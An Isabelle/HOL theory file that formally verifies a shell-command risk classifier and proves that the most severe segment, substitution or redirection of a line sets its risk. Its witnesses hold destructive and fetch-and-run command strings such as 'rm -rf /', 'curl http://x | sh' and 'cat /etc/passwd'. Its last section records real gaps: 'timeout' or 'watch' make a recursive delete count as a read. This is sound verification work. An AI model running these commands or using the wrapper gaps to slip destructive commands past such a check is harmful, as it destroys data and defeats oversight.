(* ===== verification/Command_Risk_Facts.thy ===== *)
theory Command_Risk_Facts imports Command_Risk
begin

section \<open>What the classifier guarantees\<close>

text \<open>
  The safety argument of \<open>classify_command\<close> is that the most severe part wins.  This theory
  proves it for every command line: no segment, no substitution and no redirection is
  under-reported, a line is a read only if every part of it is, an unrecognised head is never a
  read.  The cases in which the classifier reports less than its parts or less than its
  documentation says are lemmas on concrete lines at the end.
\<close>

subsection \<open>Shell interpreters\<close>

lemma split_head_trim [simp]: "split_head (trim s) = split_head s"
  by (simp add: split_head_def)

lemma strip_loop_stop:
  assumes "split_head s = (h, r)" and "\<not> is_env_assignment (basename h)"
    and "basename h \<notin> set wrapper_heads"
  shows "strip_loop s = s"
  using assms by (subst strip_loop.simps) (simp add: Let_def)

text \<open>The heads that some test of \<open>classify_head\<close> names one by one.\<close>

definition named_heads :: "string list" where
  "named_heads =
     [''systemctl'', ''service'', ''chmod'', ''chown'', ''chgrp'', ''rm'', ''mv'', ''cp'', ''tee'',
      ''dd'', ''dropdb'', ''dropuser'', ''git'', ''docker'', ''podman'', ''nerdctl'', ''kubectl'',
      ''helm'', ''terraform'', ''tofu'', ''pulumi'', ''aws'', ''gcloud'', ''az'', ''psql'',
      ''mysql'', ''sqlite3'', ''mongosh'', ''rsync'', ''curl'', ''wget'', ''npm'', ''pnpm'',
      ''yarn'', ''cargo'', ''sed'', ''find'', ''tar'']"

definition listed_heads :: "string list" where
  "listed_heads =
     named_heads @ credential_heads @ system_heads @ deletion_heads @ remote_heads
     @ external_heads @ local_heads @ read_only_heads"

lemma classify_head_unlisted:
  assumes "h \<notin> set listed_heads" shows "risk (classify_head h r) = Mutate"
proof -
  from assms have lists: "h \<notin> set credential_heads" "h \<notin> set system_heads"
    "h \<notin> set deletion_heads" "h \<notin> set remote_heads" "h \<notin> set external_heads"
    "h \<notin> set local_heads" "h \<notin> set read_only_heads" and named: "h \<notin> set named_heads"
    by (auto simp: listed_heads_def)
  from named lists show ?thesis
    by (simp add: classify_head_def classify_late_def Let_def named_heads_def)
qed

lemma shell_interpreter_head:
  assumes "h \<in> set shell_interpreters"
  shows "\<not> is_env_assignment h" and "h \<notin> set wrapper_heads" and "h \<noteq> []"
    and "h \<notin> set escalation_heads" and "risk (classify_head h r) = Mutate"
proof -
  have "list_all (\<lambda>h. \<not> is_env_assignment h \<and> h \<notin> set wrapper_heads \<and> h \<noteq> []
      \<and> h \<notin> set escalation_heads \<and> h \<notin> set listed_heads) shell_interpreters"
    by code_simp
  with assms have h: "\<not> is_env_assignment h \<and> h \<notin> set wrapper_heads \<and> h \<noteq> []
      \<and> h \<notin> set escalation_heads \<and> h \<notin> set listed_heads"
    by (simp add: list_all_iff)
  then show "\<not> is_env_assignment h" "h \<notin> set wrapper_heads" "h \<noteq> []"
    "h \<notin> set escalation_heads" "risk (classify_head h r) = Mutate"
    by (simp_all add: classify_head_unlisted)
qed

lemma classify_shell_interpreter:
  assumes "is_shell_interpreter seg"
  shows "risk (classify_simple seg) = Mutate"
proof -
  obtain h r where hr: "split_head seg = (h, r)" by fastforce
  with assms have b: "basename h \<in> set shell_interpreters"
    by (simp add: is_shell_interpreter_def)
  note facts = shell_interpreter_head [OF b]
  from hr facts(1,2) have "strip_wrappers seg = trim seg"
    unfolding strip_wrappers_def by (intro strip_loop_stop) auto
  moreover have "h \<noteq> []" using facts(3) by auto
  ultimately show ?thesis
    using hr facts(4,5) by (simp add: classify_simple.simps [of seg] Let_def)
qed

subsection \<open>The loop over the segments takes the maximum\<close>

lemma risk_fold_higher:
  "r \<le> risk (fold (\<lambda>sub w. higher w (inner sub)) subs w) \<longleftrightarrow>
     r \<le> risk w \<or> (\<exists>sub \<in> set subs. r \<le> risk (inner sub))"
  by (induction subs arbitrary: w) (auto simp: le_max_iff_disj)

definition fed :: "string option \<Rightarrow> string \<Rightarrow> bool" where
  "fed prev seg \<longleftrightarrow>
     is_shell_interpreter seg \<and> (case prev of Some p \<Rightarrow> is_network_fetch p | None \<Rightarrow> False)"

lemma segment_loop_Cons:
  "segment_loop inner prev (s # ss) w =
     (if trim s = [] then segment_loop inner prev ss w
      else if fed prev (trim s) then segment_loop inner (Some s) ss
        (higher w (classified Destructive
           ''pipes code downloaded from the network straight into a shell''))
      else segment_loop inner (Some s) ss
        (higher (fold (\<lambda>sub w. higher w (inner sub)) (extract_substitutions (trim s)) w)
           (classify_simple (trim s))))"
  by (simp add: fed_def Let_def)

declare segment_loop.simps(2) [simp del]

text \<open>The last segment that is not blank.\<close>

definition last_live :: "string option \<Rightarrow> string list \<Rightarrow> string option" where
  "last_live prev ss = fold (\<lambda>s p. if trim s = [] then p else Some s) ss prev"

lemma segment_loop_append:
  "segment_loop inner prev (xs @ ys) w =
     segment_loop inner (last_live prev xs) ys (segment_loop inner prev xs w)"
  by (induction xs arbitrary: prev w) (auto simp: last_live_def segment_loop_Cons fed_def)

lemma segment_loop_mono: "risk w \<le> risk (segment_loop inner prev ss w)"
proof (induction ss arbitrary: prev w)
  case (Cons s ss)
  have "risk w \<le> risk (fold (\<lambda>sub w. higher w (inner sub)) subs w)" for subs
    using risk_fold_higher [of "risk w" inner subs w] by simp
  then show ?case
    by (auto simp: segment_loop_Cons intro!: order_trans [OF _ Cons.IH] simp: le_max_iff_disj)
qed simp

lemma segment_loop_segment:
  assumes "s \<in> set ss" and "trim s \<noteq> []"
  shows "risk (classify_simple (trim s)) \<le> risk (segment_loop inner prev ss w)"
proof -
  obtain xs ys where ss: "ss = xs @ s # ys" using assms(1) by (meson split_list)
  let ?w = "segment_loop inner prev xs w" and ?p = "last_live prev xs"
  have "risk (classify_simple (trim s)) \<le> risk (segment_loop inner ?p (s # ys) ?w)"
  proof (cases "fed ?p (trim s)")
    case True
    then have "risk (classify_simple (trim s)) = Mutate"
      by (auto simp: fed_def classify_shell_interpreter)
    moreover have "Mutate \<le> Destructive" by (simp add: risk_order)
    ultimately show ?thesis
      using True assms(2)
      by (auto simp: segment_loop_Cons intro!: order_trans [OF _ segment_loop_mono]
          simp: le_max_iff_disj)
  next
    case False
    with assms(2) show ?thesis
      by (auto simp: segment_loop_Cons intro!: order_trans [OF _ segment_loop_mono]
          simp: le_max_iff_disj)
  qed
  then show ?thesis by (simp only: ss segment_loop_append)
qed

lemma segment_loop_substitution:
  assumes "trim s \<noteq> []" and "\<not> fed (last_live prev xs) (trim s)"
    and "sub \<in> set (extract_substitutions (trim s))"
  shows "risk (inner sub) \<le> risk (segment_loop inner prev (xs @ s # ys) w)"
proof -
  let ?w = "segment_loop inner prev xs w"
  have "risk (inner sub) \<le>
      risk (fold (\<lambda>sub w. higher w (inner sub)) (extract_substitutions (trim s)) ?w)"
    using assms(3) risk_fold_higher [of "risk (inner sub)"] by blast
  with assms(1,2) show ?thesis
    unfolding segment_loop_append
    by (auto simp: segment_loop_Cons intro!: order_trans [OF _ segment_loop_mono]
        simp: le_max_iff_disj)
qed

lemma segment_loop_Read:
  assumes "risk w = Read"
    and "\<And>s. s \<in> set ss \<Longrightarrow> trim s \<noteq> [] \<Longrightarrow> risk (classify_simple (trim s)) = Read
      \<and> (\<forall>sub \<in> set (extract_substitutions (trim s)). risk (inner sub) = Read)"
  shows "segment_loop inner prev ss w = w"
  using assms
proof (induction ss arbitrary: prev)
  case (Cons s ss)
  have tail: "segment_loop inner prev' ss w = w" for prev'
    using Cons.prems(1) by (rule Cons.IH) (rule Cons.prems(2), simp_all)
  show ?case
  proof (cases "trim s = []")
    case True
    with tail show ?thesis by (simp add: segment_loop_Cons)
  next
    case False
    with Cons.prems(2) [of s] have simple: "risk (classify_simple (trim s)) = Read"
      and subs: "\<forall>sub \<in> set (extract_substitutions (trim s)). risk (inner sub) = Read" by auto
    from simple have "\<not> fed prev (trim s)"
      using classify_shell_interpreter [of "trim s"] by (auto simp: fed_def)
    moreover have "fold (\<lambda>sub w. higher w (inner sub)) subs w = w"
      if "\<forall>sub \<in> set subs. risk (inner sub) = Read" for subs
      using that Cons.prems(1) by (induction subs) (auto simp: higher_def)
    ultimately show ?thesis
      using False simple subs tail
      by (simp add: higher_def [of _ "classify_simple _"] segment_loop_Cons)
  qed
qed simp

subsection \<open>The most severe part wins\<close>

lemma risk_classify_at_Suc:
  "risk (classify_at (Suc n) cmd) =
     max (risk (segment_loop (classify_at n) None (split_segments cmd)
                 (classified Read ''empty command'')))
         (if has_file_redirection cmd then Mutate else Read)"
  by (cases "risk (segment_loop (classify_at n) None (split_segments cmd)
        (classified Read ''empty command''))")
     (simp_all add: Let_def max_def risk_order)

lemma classify_command_Suc: "classify_command cmd = classify_at (Suc 8) cmd"
  unfolding classify_command_def by (simp only: eval_nat_numeral)

lemma line_covers_segment:
  assumes "s \<in> set (split_segments cmd)" and "trim s \<noteq> []"
  shows "risk (classify_simple (trim s)) \<le> risk (classify_command cmd)"
  unfolding classify_command_Suc risk_classify_at_Suc le_max_iff_disj
  using segment_loop_segment [OF assms] by blast



lemma line_covers_substitution:
  assumes "split_segments cmd = xs @ s # ys" and "trim s \<noteq> []"
    and "sub \<in> set (extract_substitutions (trim s))"
  shows "risk (classify_at 8 sub) \<le> risk (classify_command cmd)
   \<or> fed (last_live None xs) (trim s) \<and> Destructive \<le> risk (classify_command cmd)"
proof (cases "fed (last_live None xs) (trim s)")
  case False
  from segment_loop_substitution [OF assms(2) False assms(3)] show ?thesis
    unfolding classify_command_Suc risk_classify_at_Suc le_max_iff_disj assms(1) by blast
next
  case True
  have "Destructive \<le> risk (segment_loop inner None (xs @ s # ys) w)" for inner w
    using True assms(2) unfolding segment_loop_append
    by (auto simp: segment_loop_Cons intro!: order_trans [OF _ segment_loop_mono]
        simp: le_max_iff_disj)
  with True show ?thesis
    unfolding classify_command_Suc risk_classify_at_Suc le_max_iff_disj assms(1) by blast
qed

text \<open>Substitutions hide nothing: the body of every \<open>$(\<dots>)\<close> or backquote of a segment,
  classified in its own right one level deeper, is at most the risk of the line, unless that
  segment is a shell fed by a network download (the line is then destructive).\<close>

theorem classify_command_substitution:
  assumes "split_segments cmd = xs @ s # ys" and "trim s \<noteq> []"
    and "sub \<in> set (extract_substitutions (trim s))"
  shows "risk (classify_at 8 sub) \<le> risk (classify_command cmd)
   \<or> fed (last_live None xs) (trim s) \<and> Destructive \<le> risk (classify_command cmd)"
  by (rule line_covers_substitution [OF assms])

theorem classify_command_substitution_witness:
  "Destructive \<le> risk (classify_command ''echo $(rm -rf /)'')"
proof -
  have s: "split_segments ''echo $(rm -rf /)'' = [] @ ''echo $(rm -rf /)'' # []"
    and t: "trim ''echo $(rm -rf /)'' \<noteq> []"
    and e: "''rm -rf /'' \<in> set (extract_substitutions (trim ''echo $(rm -rf /)''))"
    by code_simp+
  have r: "risk (classify_at 8 ''rm -rf /'') = Destructive" by code_simp
  from classify_command_substitution [OF s t e] show ?thesis unfolding r by blast
qed

text \<open>A command line is reported as a read if and only if it redirects to no file and every
  segment that is not blank is a read with only reads in its substitutions: one part that is not a
  read is enough to lose the read.\<close>

theorem classify_command_read_iff:
  "risk (classify_command cmd) = Read \<longleftrightarrow>
     \<not> has_file_redirection cmd
   \<and> (\<forall>s \<in> set (split_segments cmd). trim s \<noteq> [] \<longrightarrow>
        risk (classify_simple (trim s)) = Read
      \<and> (\<forall>sub \<in> set (extract_substitutions (trim s)). risk (classify_at 8 sub) = Read))"
    (is "?read \<longleftrightarrow> \<not> ?redir \<and> ?parts")
proof
  assume read: ?read
  then have "\<not> ?redir"
    unfolding classify_command_Suc risk_classify_at_Suc
    by (auto simp: max_def risk_order split: if_splits)
  moreover have ?parts
  proof (intro ballI impI conjI)
    fix s assume s: "s \<in> set (split_segments cmd)" "trim s \<noteq> []"
    from line_covers_segment [OF this] read
    show simple: "risk (classify_simple (trim s)) = Read" by simp
    then have unfed: "\<not> fed p (trim s)" for p
      using classify_shell_interpreter [of "trim s"] by (auto simp: fed_def)
    fix sub assume sub: "sub \<in> set (extract_substitutions (trim s))"
    from s(1) obtain xs ys where "split_segments cmd = xs @ s # ys" by (meson split_list)
    from line_covers_substitution [OF this s(2) sub] unfed read
    show "risk (classify_at 8 sub) = Read" by simp
  qed
  ultimately show "\<not> ?redir \<and> ?parts" by blast
next
  assume h: "\<not> ?redir \<and> ?parts"
  then have "segment_loop (classify_at 8) None (split_segments cmd)
      (classified Read ''empty command'') = classified Read ''empty command''"
    by (intro segment_loop_Read) auto
  with h show ?read
    unfolding classify_command_Suc risk_classify_at_Suc by simp
qed

theorem classify_command_read_iff_witness:
  "risk (classify_command ''ls -la | grep foo'') = Read \<and> risk (classify_command ''ls > out'') \<noteq> Read"
proof -
  have s: "split_segments ''ls -la | grep foo'' = [''ls -la '', '' grep foo'']"
    and c: "risk (classify_simple (trim ''ls -la '')) = Read"
      "risk (classify_simple (trim '' grep foo'')) = Read"
      "extract_substitutions (trim ''ls -la '') = []" "extract_substitutions (trim '' grep foo'') = []"
    and r: "\<not> has_file_redirection ''ls -la | grep foo''" "has_file_redirection ''ls > out''"
    by code_simp+
  show ?thesis
    using classify_command_read_iff [of "''ls -la | grep foo''"]
      classify_command_read_iff [of "''ls > out''"]
    unfolding s using c r by simp
qed

subsection \<open>Unrecognised commands\<close>

definition command_head :: "string \<Rightarrow> string" where
  "command_head seg = basename (fst (split_head (strip_wrappers seg)))"

text \<open>The heads whose risk depends on a sub-command that may be a read.\<close>

definition inspecting_heads :: "string list" where
  "inspecting_heads =
     [''systemctl'', ''service'', ''git'', ''docker'', ''podman'', ''nerdctl'', ''kubectl'', ''helm'',
      ''psql'', ''mysql'', ''sqlite3'', ''mongosh'']"

lemma if_not_Read:
  "(c \<Longrightarrow> risk a \<noteq> Read) \<Longrightarrow> risk b \<noteq> Read \<Longrightarrow> risk (if c then a else b) \<noteq> Read"
  by simp

lemma classify_head_fail_safe:
  assumes "h \<notin> set read_only_heads" and "h \<notin> set inspecting_heads"
  shows "risk (classify_head h r) \<noteq> Read"
  unfolding classify_head_def classify_late_def classify_infra_def classify_cloud_def Let_def
  using assms by (intro if_not_Read) (auto simp: inspecting_heads_def)

text \<open>The classifier fails safe: a segment with a command whose head is neither in the list of
  read-only heads nor one of the programs with inspecting sub-commands is never a read.\<close>

theorem classify_simple_fail_safe:
  assumes "fst (split_head (strip_wrappers seg)) \<noteq> []"
    and "command_head seg \<notin> set read_only_heads" and "command_head seg \<notin> set inspecting_heads"
  shows "Mutate \<le> risk (classify_simple seg)"
  using assms
  by (auto simp: classify_simple.simps [of seg] command_head_def Let_def Mutate_le_iff
      max_def split: prod.splits dest: classify_head_fail_safe)

theorem classify_simple_fail_safe_witness: "Mutate \<le> risk (classify_simple ''frobnicate --all'')"
proof -
  have "fst (split_head (strip_wrappers ''frobnicate --all'')) = ''frobnicate''"
    "basename ''frobnicate'' = ''frobnicate''"
    "''frobnicate'' \<notin> set read_only_heads"
    by code_simp+
  then show ?thesis
    by (intro classify_simple_fail_safe) (simp_all add: command_head_def inspecting_heads_def)
qed

text \<open>Chaining after a plain command adds the segments of what follows.\<close>

definition plain :: "string \<Rightarrow> bool" where
  "plain s \<longleftrightarrow>
     set s \<inter> {squote, dquote, backslash, CHR ''&'', CHR '';'', CHR ''|'', newline, CHR ''>'', CHR ''<''} = {}"

lemma split_loop_plain:
  "plain a \<Longrightarrow> split_loop QNone cur (a @ rest) = split_loop QNone (cur @ a) rest"
  by (induction a arbitrary: cur) (auto simp: plain_def)

lemma set_trim_end: "set (trim_end s) \<subseteq> set s"
proof -
  have "set (trim_end s) \<subseteq> \<Union> (set ` set (chars s))"
    by (auto simp: trim_end_def dest!: set_dropWhileD)
  also have "\<dots> = set (concat (chars s))" by (simp only: set_concat)
  finally show ?thesis by (simp only: concat_chars)
qed

lemma split_segments_chain:
  assumes "plain a"
  shows "split_segments (a @ ''&&'' @ b) = a # split_segments b"
proof -
  have "\<not> ends_in_redirection a"
    using assms set_trim_end [of a]
    by (auto simp: ends_in_redirection_def ends_with_iff plain_def)
  with split_loop_plain [OF assms, of "[]" "''&&'' @ b"] show ?thesis
    by (simp add: split_segments_def next_is_def skip_doubled_def)
qed

text \<open>Whatever plain command a line starts with, what follows \<open>&&\<close> is reported at no less
  than the risk of each of its own segments.\<close>

theorem chaining_cannot_hide:
  assumes "plain a" and "s \<in> set (split_segments b)" and "trim s \<noteq> []"
  shows "risk (classify_simple (trim s)) \<le> risk (classify_command (a @ ''&&'' @ b))"
proof (rule line_covers_segment [OF _ assms(3)])
  show "s \<in> set (split_segments (a @ ''&&'' @ b))"
    unfolding split_segments_chain [OF assms(1)] using assms(2) by simp
qed

theorem chaining_cannot_hide_witness:
  "risk (classify_simple (trim '' rm -rf /'')) \<le> risk (classify_command (''cat notes '' @ ''&&'' @ '' rm -rf /''))"
proof (rule chaining_cannot_hide)
  show "plain ''cat notes ''" by (simp add: plain_def)
  show "'' rm -rf /'' \<in> set (split_segments '' rm -rf /'')" "trim '' rm -rf /'' \<noteq> []"
    by code_simp+
qed

subsection \<open>Where the classifier falls short\<close>

text \<open>A line that is a read keeps the reason of the empty command: \<open>higher\<close> replaces it only by
  something strictly worse.\<close>

lemma segment_loop_keeps_reason:
  "risk (segment_loop inner prev ss w) = risk w \<Longrightarrow> segment_loop inner prev ss w = w"
proof -
  have step: "risk (fold (\<lambda>sub w. higher w (inner sub)) subs w) = risk w \<Longrightarrow>
      fold (\<lambda>sub w. higher w (inner sub)) subs w = w" for subs and w
  proof (induction subs arbitrary: w)
    case (Cons sub subs)
    have "risk (higher w (inner sub)) \<le> risk (fold (\<lambda>sub w. higher w (inner sub)) (sub # subs) w)"
      using risk_fold_higher [of _ inner subs "higher w (inner sub)"] by simp
    with Cons.prems have "risk (higher w (inner sub)) \<le> risk w" by simp
    then have "higher w (inner sub) = w" by (auto simp: higher_def split: if_splits)
    with Cons show ?case by simp
  qed simp
  show "risk (segment_loop inner prev ss w) = risk w \<Longrightarrow> segment_loop inner prev ss w = w"
  proof (induction ss arbitrary: prev w)
    case (Cons s ss)
    let ?subs = "extract_substitutions (trim s)"
    let ?f = "fold (\<lambda>sub w. higher w (inner sub)) ?subs w"
    let ?kill = "classified Destructive
        ''pipes code downloaded from the network straight into a shell''"
    have hi: "higher w x = w" if "risk (segment_loop inner p ss (higher w x)) = risk w" for p x
      using segment_loop_mono [of "higher w x" inner p ss] that
      by (auto simp: higher_def split: if_splits)
    have lo: "higher ?f x = w" if "risk (segment_loop inner p ss (higher ?f x)) = risk w" for p x
    proof -
      have "risk ?f \<le> risk w"
        using segment_loop_mono [of "higher ?f x" inner p ss] that by simp
      moreover have "risk w \<le> risk ?f" using risk_fold_higher [of "risk w" inner ?subs w] by simp
      ultimately have "?f = w" by (intro step) simp
      with hi that show ?thesis by simp
    qed
    show ?case
    proof (cases "trim s = []")
      case True
      with Cons show ?thesis by (simp add: segment_loop_Cons)
    next
      case ns: False
      show ?thesis
      proof (cases "fed prev (trim s)")
        case True
        with ns Cons.prems have eq: "risk (segment_loop inner (Some s) ss (higher w ?kill)) = risk w"
          by (simp add: segment_loop_Cons)
        with True ns hi [OF eq] Cons.IH [of "Some s" w] show ?thesis
          by (simp add: segment_loop_Cons)
      next
        case False
        with ns Cons.prems have
          eq: "risk (segment_loop inner (Some s) ss (higher ?f (classify_simple (trim s)))) = risk w"
          by (simp add: segment_loop_Cons)
        with False ns lo [OF eq] Cons.IH [of "Some s" w] show ?thesis
          by (simp add: segment_loop_Cons)
      qed
    qed
  qed simp
qed

text \<open>Every command line that is classified as a read, whatever it runs, is justified to the
  user by the words "empty command".\<close>

theorem read_reason_is_empty_command:
  assumes "risk (classify_command cmd) = Read"
  shows "reason (classify_command cmd) = ''empty command''"
proof -
  let ?w = "segment_loop (classify_at 8) None (split_segments cmd) (classified Read ''empty command'')"
  from assms have "risk ?w = Read" and nr: "\<not> has_file_redirection cmd"
    unfolding classify_command_Suc risk_classify_at_Suc by (auto simp: max_def split: if_splits)
  then have "?w = classified Read ''empty command''" by (intro segment_loop_keeps_reason) simp
  with nr show ?thesis
    unfolding classify_command_Suc classify_at.simps(2) Let_def by (simp add: classified_def)
qed

theorem read_reason_is_empty_command_witness:
  "reason (classify_command ''cat /etc/passwd'') = ''empty command''"
  by (rule read_reason_is_empty_command) code_simp

text \<open>A wrapper that runs its arguments, and is listed as read-only, makes a recursive delete a
  read; so does an interpreter of scripts in the same list.\<close>

lemma timeout_hides_the_command:
  "risk (classify_command ''timeout 5 rm -rf /home/me'') = Read
 \<and> risk (classify_command ''watch rm -rf /home/me'') = Read
 \<and> risk (classify_command ''rm -rf /home/me'') = Destructive"
  by code_simp

text \<open>A shell fed by a download skips its substitutions, so the prefix lowers the reported risk.\<close>

lemma download_prefix_lowers_risk:
  "risk (classify_command ''sh -c $(sudo id)'') = Privileged
 \<and> risk (classify_command ''curl http://x | sh -c $(sudo id)'') = Destructive"
  by code_simp

end
